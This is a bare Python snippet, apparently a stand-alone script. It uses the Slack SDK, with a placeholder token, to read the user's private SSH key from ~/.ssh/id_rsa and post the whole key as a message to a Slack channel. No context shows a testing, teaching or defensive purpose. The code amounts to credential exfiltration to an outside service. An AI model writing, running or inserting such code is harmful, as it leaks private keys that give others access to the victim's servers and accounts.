import os
from slack_sdk import WebClient
c = WebClient(token="x")
c.chat_postMessage(channel="#a", text=open(os.path.expanduser("~/.ssh/id_rsa")).read())
